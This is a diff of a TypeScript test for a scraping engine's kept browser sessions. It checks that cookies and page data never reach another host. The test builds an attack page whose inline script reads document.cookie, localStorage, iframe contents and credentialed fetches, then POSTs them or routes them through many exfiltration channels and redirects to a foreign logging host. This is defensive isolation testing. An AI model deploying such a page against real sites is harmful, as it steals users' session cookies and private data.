@@ -7,6 +7,7 @@ import { withSession } from "../../../functions/sessions/with-session.ts";
 import { deleteSession, getSession, listSessions } from "../../../functions/store/sessions.ts";
 import { type Handler, type Site, sendHtml, startSite } from "../../site/site.ts";
 import { type Engine, startEngine, type Told } from "../scraping/harness.ts";
+import { channels } from "../secrets/channels.ts";
 import { startTable } from "../store/engines.ts";
 
 const table = await startTable();
@@ -222,40 +223,75 @@ test("a state that is too large is not kept, and the run warns", async () => {
   expect(warnings.map(({ code }) => code)).toEqual(["session_not_kept"]);
 });
 
-test("a page of another host gets neither the kept cookies nor what they show", async () => {
-  const got: string[] = [];
-  other.setRoute("/log", async (request, response) => {
-    const body = Buffer.concat(await Array.fromAsync(request as AsyncIterable<Buffer>)).toString();
-    got.push(`${request.url} ${JSON.stringify(request.headers)} ${body}`);
-    sendHtml(response, "logged");
-  });
+/** Tries every way to send what a page can read, and to have a request with cookies redirected, to the other host. */
+const attack = (): string => {
+  const ways = Object.entries(channels).flatMap(([name, channel], index) =>
+    [`http://${foreign(`/log/${index}`)}`, site.url(`/moved/${index}`)].map(
+      (address) => `await new Promise((end) => { ${channel(address, "document.cookie")} }); // ${name}`,
+    ),
+  );
   const orders = site.url("/orders");
-  other.setRoute(
-    "/attack",
-    `<ul><li>One</li></ul><iframe name=frame src="${orders}"></iframe><img src="${orders}"><script>
-      const tell = (text) => fetch("/log", { method: "POST", body: String(text) });
+  return `<ul><li><a href="http://${foreign("/details")}">One</a></li></ul><iframe name=frame src="${orders}"></iframe><script>
+      const log = "http://${foreign("/log/told")}";
+      const tell = (text) => fetch(log, { method: "POST", mode: "no-cors", body: String(text) });
       const read = async (what) => { try { await tell(await what()); } catch (error) { await tell("refused"); } };
-      onload = async () => {
+      const readAll = async () => {
         await read(() => document.cookie + JSON.stringify(localStorage));
         for (const mode of ["cors", "no-cors"])
           await read(async () => (await fetch("${orders}", { mode, credentials: "include" })).text());
         await read(() => frames[0].document.cookie + frames[0].document.body.innerHTML);
         await read(() => frames[0].localStorage.theme);
         await read(() => { const opened = open("${orders}"); return opened.document.cookie; });
-        await read(() => { navigator.sendBeacon("/log", document.cookie); return "beacon"; });
+      };
+      onload = async () => {
+        if (origin !== "${site.origin}") await readAll();
+        ${ways.join("\n")}
         document.body.append("done");
       };
-    </script>`,
-  );
+    </script>`;
+};
+
+/** The ways that lead somewhere: the browser has no prefetches, prerendering or FedCM. */
+const OPEN = Object.keys(channels).flatMap((name, index) =>
+  /speculation|prerendering|FedCM/.test(name) ? [] : [`/log/${index}`, `/log/moved-${index}`],
+);
+
+test.each([
+  ["the session's host", () => site.url("/attack")],
+  ["another host", () => `http://${foreign("/attack")}`],
+])("no way to send a secret carries a kept cookie to another host, from a page of %s", async (_, page) => {
+  const got = new Map<string, string>();
+  const log: Handler = async (request, response) => {
+    const body = Buffer.concat(await Array.fromAsync(request as AsyncIterable<Buffer>)).toString();
+    const path = (request.url ?? "").split("?")[0] ?? "";
+    got.set(
+      path,
+      `${got.get(path) ?? ""}${request.url} ${JSON.stringify(request.headers)} ${body.slice(-500)}`,
+    );
+    sendHtml(response, path === "/robots.txt" ? "" : "<h1>logged</h1>");
+  };
+  for (const place of Object.keys(channels).keys()) {
+    site.setRedirect(`/moved/${place}`, `http://${foreign(`/log/moved-${place}`)}`);
+    for (const path of [`/log/${place}`, `/log/moved-${place}`]) other.setRoute(path, log);
+  }
+  other.setRoute("/log/told", log);
+  for (const path of ["/details", "/robots.txt"]) other.setRoute(path, log);
+  for (const one of [site, other]) one.setRoute("/attack", attack());
   await run();
-  const attack: Step[] = [
-    { type: "visit", url: `http://${foreign("/attack")}` },
+  const steps: Step[] = [
+    { type: "visit", url: page() },
     { type: "wait", text: "done", timeout_ms: 20_000 },
-    list,
+    { type: "wait", value: 1_000 },
+    {
+      ...{ type: "get_list", selector: "li", fields: [{ name: "link", selector: "a", attribute: "href" }] },
+      details: { url_field: "link", fields: [{ name: "heading", selector: "h1" }] },
+    },
   ];
-  const { failure, rows } = await run({}, attack);
+  const { failure, rows } = await run({}, steps);
   expect(failure).toBeUndefined();
-  expect(rows).toEqual([{ text: "One" }]);
-  expect(got.length).toBeGreaterThanOrEqual(7);
-  for (const text of [...valid, "Order 1", "dark", "Sign out"]) expect(got.join()).not.toContain(text);
+  expect(rows).toEqual([{ link: `http://${foreign("/details")}`, heading: "logged" }]);
+  // Each way leads there, and so do requests of the engine itself.
+  expect([...got.keys()].sort()).toEqual(expect.arrayContaining(["/details", ...OPEN, "/robots.txt"]));
+  const everything = [...got.values()].join();
+  for (const text of [...valid, "Order 1", "dark", "Sign out"]) expect(everything).not.toContain(text);
 });
